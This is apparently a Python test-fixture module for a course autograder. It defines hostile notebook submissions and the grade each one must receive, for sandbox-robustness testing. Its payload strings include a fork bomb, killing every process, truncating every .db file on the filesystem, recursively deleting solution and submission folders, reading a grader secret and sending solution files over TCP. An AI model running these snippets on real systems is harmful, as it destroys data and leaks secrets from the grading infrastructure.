"""Hostile submissions of ex02: what a learner's notebook can do to a grader, and the verdict each deserves.

Each case is a correct submission (the reference's functions) with one hostile change: a solution cell's
source replaced (``functions``), cells added (``cells``: ``"top"``, ``"setup"`` (after the setup cell),
``"end"``, or ``"after:<grade_id>"``), or the notebook itself edited (``edit``). ``points`` and ``status``
are what the grader must give it; ``message`` is a fragment that one of its failing cells' messages (or the
submission's message) must contain. Sources may use ``{port}`` (a listener the test opens on 127.0.0.1)
and ``{secret}`` (a variable of the grader's environment that must never reach a kernel).

Points of ex02 by function: softmax 5, scaled_dot_product_attention 7 (it calls softmax), the variance 3.
"""

from __future__ import annotations

import copy
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat

FULL, SOFTMAX, ATTENTION, VARIANCE = 15.0, 5.0, 7.0, 3.0
WITHOUT_SOFTMAX = FULL - SOFTMAX - ATTENTION  # a broken softmax cell costs softmax's and attention's cells


@dataclass(frozen=True)
class Hostile:
    name: str
    points: float | None  # None: what its functions earn when the test cells run them in the test's process
    status: str = "graded"
    message: str = ""
    functions: dict[str, str] = field(default_factory=dict)  # function -> its whole solution cell
    cells: tuple[tuple[str, str], ...] = ()  # (position, source)
    edit: Callable[[nbformat.NotebookNode], nbformat.NotebookNode | str] | None = None


def _grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _without_test_cells(notebook):
    notebook.cells = [
        c
        for c in notebook.cells
        if not (c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade"))
    ]
    return notebook


def _duplicated_test_cells(notebook):
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
            cells.append(copy.deepcopy(cell))  # Jupyter's copy and paste keeps the metadata
    notebook.cells = cells
    return notebook


def _edited_test_cells(notebook):
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass  # nothing to check here"
    return notebook


def _unlocked_test_cells(notebook):
    """Test cells made editable solution cells (nbgrader's flags off), then emptied."""
    for cell in notebook.cells:
        nbgrader = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and nbgrader.get("grade"):
            nbgrader.update(locked=False, grade=False, solution=True)
            cell.source = "pass  # nothing to check here"
    return notebook


def _other_kernel(notebook):
    notebook.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    return notebook


def _stripped_metadata(notebook):
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
    return notebook


def _duplicated_solution_cell(notebook):
    index = next(i for i, cell in enumerate(notebook.cells) if _grade_id(cell) == "softmax")
    notebook.cells.insert(index + 1, copy.deepcopy(notebook.cells[index]))
    return notebook


def _without_softmax_cell(notebook):
    notebook.cells = [cell for cell in notebook.cells if _grade_id(cell) != "softmax"]
    return notebook


def _not_json(notebook):
    return "{ this is not a notebook"


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n")


WALK = _code(
    """
    import os

    def everything(top="/"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/dev")]
            yield folder, folders, files
    """
)
SLEEPERS = 'import subprocess\n\nsleepers = [subprocess.Popen(["sleep", "600"]) for _ in range(200)]'
DAEMONS = _code(
    """
    import os
    import subprocess
    import time

    subprocess.Popen(["sleep", "600"], start_new_session=True)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
    os.waitpid(child, 0)
    """
)
GPU_FAULT = _code(
    """
    import torch

    # torch.AcceleratorError is new in torch 2.8
    AcceleratorError = getattr(torch, "AcceleratorError", None)
    AcceleratorError = AcceleratorError or type("AcceleratorError", (RuntimeError,), {})


    def softmax(x, dim=-1):
        raise AcceleratorError("CUDA error: device-side assert triggered")
    """
)
FORK_BOMB = _code(
    """
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.5)
    """
)
TRUNCATE_DATABASES = WALK + _code(
    """

    for folder, _, files in everything():
        for name in files:
            if name.endswith(".db"):
                try:
                    open(os.path.join(folder, name), "w").close()
                except OSError:
                    pass
    """
)
DELETE_NEARBY = _code(
    """
    import os
    import shutil
    import attention_course

    places = {os.getcwd(), os.path.dirname(attention_course.__file__)}
    for place in list(places):
        while place != "/":
            place = os.path.dirname(place)
            places.add(place)
    for place in places:
        for name in ("solutions", "submitted", "autograded"):
            shutil.rmtree(os.path.join(place, name), ignore_errors=True)
    """
)
DELETE_EVERYWHERE = WALK + _code(
    """

    import shutil

    for folder, folders, _ in everything():
        for name in folders:
            if name in ("solutions", "submitted"):
                shutil.rmtree(os.path.join(folder, name), ignore_errors=True)
    """
)
READ_ENVIRONMENT = _code(
    """
    import os

    if "{secret}" in os.environ:
        raise RuntimeError(os.environ["{secret}"])


    def softmax(x, dim=-1):
        shifted = x - x.max(dim=dim, keepdim=True).values
        exp = shifted.exp()
        return exp / exp.sum(dim=dim, keepdim=True)
    """
)
SEND_SOLUTIONS = _code(
    """
    import glob
    import os
    import socket
    import attention_course

    root = os.path.dirname(os.path.dirname(attention_course.__file__))
    text = b"no solutions found"
    for path in glob.glob(os.path.join(root, "solutions", "*.py")):
        text = open(path, "rb").read()
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(text)
    except OSError as error:
        print("no network:", error)
    """
)
WRITE_OUTSIDE = _code(
    """
    import os

    places = ("/tmp/attention-grade-escaped", os.path.expanduser("~/../escaped"), "../escaped", "/escaped")
    for path in places:
        try:
            open(path, "w").write("escaped")
        except OSError:
            pass
    """
)
IGNORE_INTERRUPTS = _code(
    """
    import signal
    import time

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.05)
    """
)
# right-shaped tensors on the meta device: shapes and dtypes to compare, no values
META_SOFTMAX = _code(
    """
    import torch


    def softmax(x, dim=-1):
        return torch.empty_like(x, device="meta")
    """
)
# code whose calls the recorder cannot observe reliably: the functions are right, the "from scratch" points
# (softmax's and attention's, 2) are withheld for an instructor's review (attention_course.grading.review)
FROM_C_SOFTMAX = _code(
    """
    import torch


    def softmax(x, dim=-1):
        return next(map(torch.softmax, [x], [dim]))
    """
)
# a PyTorch operator's C function called directly: the profiler sees the call without the operator's name
# (it names an operator by the overload that calls its C function), so the review lists the line
OPERATOR_SOFTMAX = _code(
    """
    import torch


    def softmax(x, dim=-1):
        return torch.ops.aten._softmax.default._op(x, dim, False)
    """
)
REVIEWED = FULL - 2
AFTER_SOFTMAX_TESTS = "after:softmax_from_scratch"

HOSTILE: tuple[Hostile, ...] = (
    Hostile(
        "loops-forever",
        WITHOUT_SOFTMAX,
        message="KeyboardInterrupt",
        functions={"softmax": "while True:\n    pass"},
    ),
    Hostile(
        "ignores-interrupts",
        WITHOUT_SOFTMAX,
        "graded after restarts",
        "could not be interrupted",
        functions={"softmax": IGNORE_INTERRUPTS},
    ),
    Hostile("sleeps-600-s", WITHOUT_SOFTMAX, functions={"softmax": "import time\n\ntime.sleep(600)"}),
    Hostile(
        "allocates-6-gb",
        WITHOUT_SOFTMAX,
        message="memory",
        functions={"softmax": "hoard = torch.ones(6 * 2**30, dtype=torch.uint8)"},
    ),
    Hostile(
        "forks-200-sleepers",
        WITHOUT_SOFTMAX,
        message="Resource temporarily unavailable",
        functions={"softmax": SLEEPERS},
    ),
    Hostile("leaves-daemons", FULL, cells=(("end", DAEMONS),)),
    Hostile("fork-bomb", FULL, cells=(("end", FORK_BOMB),)),
    Hostile("prints-50-mb", FULL, cells=(("after:softmax", 'for _ in range(50):\n    print("x" * 2**20)'),)),
    Hostile(
        "exits-the-kernel",
        WITHOUT_SOFTMAX,
        "graded after restarts",
        "DeadKernelError",
        {"softmax": "import os\n\nos._exit(0)"},
    ),
    Hostile(
        "segfaults",
        WITHOUT_SOFTMAX,
        "graded after restarts",
        "DeadKernelError",
        {"softmax": "import ctypes\n\nctypes.string_at(0)"},
    ),
    Hostile(  # on CUDA an index out of range is a device-side assert, after which the process's GPU is lost
        "faults-the-gpu",
        WITHOUT_SOFTMAX,
        "graded after restarts",
        "AcceleratorError",
        {"softmax": GPU_FAULT},
    ),
    Hostile(
        "syntax-error",
        WITHOUT_SOFTMAX,
        message="SyntaxError",
        functions={"softmax": "def softmax(x, dim=-1):\n    return x +"},
    ),
    Hostile(
        "raises-at-import",
        WITHOUT_SOFTMAX,
        message="ModuleNotFoundError",
        functions={"softmax": "import no_such_module"},
    ),
    Hostile(
        "calls-sys-exit",
        WITHOUT_SOFTMAX,
        message="SystemExit",
        functions={"softmax": "import sys\n\nsys.exit(3)"},
    ),
    Hostile(
        "asks-for-input",
        WITHOUT_SOFTMAX,
        message="StdinNotImplementedError",
        functions={"softmax": 'name = input("your name? ")'},
    ),
    Hostile(
        "returns-nan",
        None,
        message="NaN",
        functions={"softmax": "def softmax(x, dim=-1):\n    return x * float('nan')"},
    ),
    Hostile(
        "returns-numpy",
        None,
        functions={"softmax": "def softmax(x, dim=-1):\n    return torch.softmax(x, dim).numpy()"},
    ),
    Hostile("returns-none", None, functions={"softmax": "def softmax(x, dim=-1):\n    return None"}),
    # attention's shapes cell (1 point) and the variance (3) pass, as in nbgrader; no cell can compare values
    Hostile("returns-meta-tensors", VARIANCE + 1, message="meta device", functions={"softmax": META_SOFTMAX}),
    Hostile(
        "imports-solutions",
        WITHOUT_SOFTMAX,
        message="solutions",
        functions={"softmax": "from solutions.attention import softmax"},
    ),
    Hostile("truncates-every-db", FULL, cells=(("end", TRUNCATE_DATABASES),)),
    Hostile("deletes-solutions-and-submitted", FULL, cells=(("end", DELETE_NEARBY),)),
    Hostile("deletes-solutions-everywhere", FULL, cells=(("end", DELETE_EVERYWHERE),)),
    Hostile("reads-the-grader-environment", FULL, functions={"softmax": READ_ENVIRONMENT}),
    Hostile("sends-the-solutions-over-tcp", FULL, cells=(("end", SEND_SOLUTIONS),)),
    Hostile("writes-outside-its-folder", FULL, cells=(("end", WRITE_OUTSIDE),)),
    # the kernel's parent is the fork server, init of the slot's PID namespace: a signal from inside the
    # namespace cannot kill it, so both attempts change nothing and every cell runs
    Hostile(
        "kills-its-parent", FULL, cells=((AFTER_SOFTMAX_TESTS, "import os\n\nos.kill(os.getppid(), 9)"),)
    ),
    Hostile("kills-every-process", FULL, cells=((AFTER_SOFTMAX_TESTS, "import os\n\nos.kill(-1, 9)"),)),
    Hostile("calls-softmax-from-c", REVIEWED, message="needs review", functions={"softmax": FROM_C_SOFTMAX}),
    Hostile(
        "calls-the-softmax-operator-directly",
        REVIEWED,
        message="needs review",
        functions={"softmax": OPERATOR_SOFTMAX},
    ),
    Hostile(
        "hooks-ipython-events",
        REVIEWED,
        message="needs review",
        cells=(("setup", 'get_ipython().events.register("post_run_cell", lambda result: None)'),),
    ),
    Hostile(
        "starts-a-thread",
        REVIEWED,
        message="needs review",
        cells=(("setup", "import threading\n\nthreading.Thread(target=lambda: None).start()"),),
    ),
    Hostile(
        "assigns-to-the-recorder",
        REVIEWED,
        message="needs review",
        cells=(("setup", "from attention_course.grading import recorder\n\nrecorder.save = recorder.save"),),
    ),
    Hostile("deletes-test-cells", FULL, edit=_without_test_cells),
    Hostile("duplicates-test-cells", FULL, edit=_duplicated_test_cells),
    Hostile("edits-test-cells", FULL, edit=_edited_test_cells),
    Hostile("unlocks-and-edits-test-cells", FULL, edit=_unlocked_test_cells),
    Hostile("changes-the-kernel-spec", FULL, edit=_other_kernel),
    Hostile("strips-nbgrader-metadata", FULL, edit=_stripped_metadata),
    Hostile("duplicates-a-solution-cell", FULL, edit=_duplicated_solution_cell),
    Hostile(
        "deletes-a-solution-cell",
        WITHOUT_SOFTMAX,
        message="deleted from the submission",
        edit=_without_softmax_cell,
    ),
    Hostile("is-not-json", 0.0, "unreadable", "JSON", edit=_not_json),
)


def notebook(
    hostile: Hostile, release: nbformat.NotebookNode, right: dict[str, str], **context: str
) -> nbformat.NotebookNode | str:
    """The correct submission (``right``: the reference's solution cells) with ``hostile``'s change; sources
    are formatted with ``context`` (``port``, ``secret``)."""
    from tests.notebook_tools import fill_solutions

    functions = {
        name: source.replace("{port}", context.get("port", "")).replace("{secret}", context.get("secret", ""))
        for name, source in hostile.functions.items()
    }
    submission = fill_solutions(release, right)
    for cell in submission.cells:  # a hostile source replaces the whole solution cell of its function
        if _grade_id(cell) in functions:
            cell.source = functions[_grade_id(cell)]
    for position, source in hostile.cells:
        source = source.replace("{port}", context.get("port", "")).replace(
            "{secret}", context.get("secret", "")
        )
        ids = [_grade_id(cell) for cell in submission.cells]
        if position == "top":
            index = 0
        elif position == "end":
            index = len(submission.cells)
        elif position == "setup":
            index = ids.index("setup") + 1
        else:
            index = ids.index(position.removeprefix("after:")) + 1
        submission.cells.insert(index, nbformat.v4.new_code_cell(source))
    return hostile.edit(submission) if hostile.edit else submission
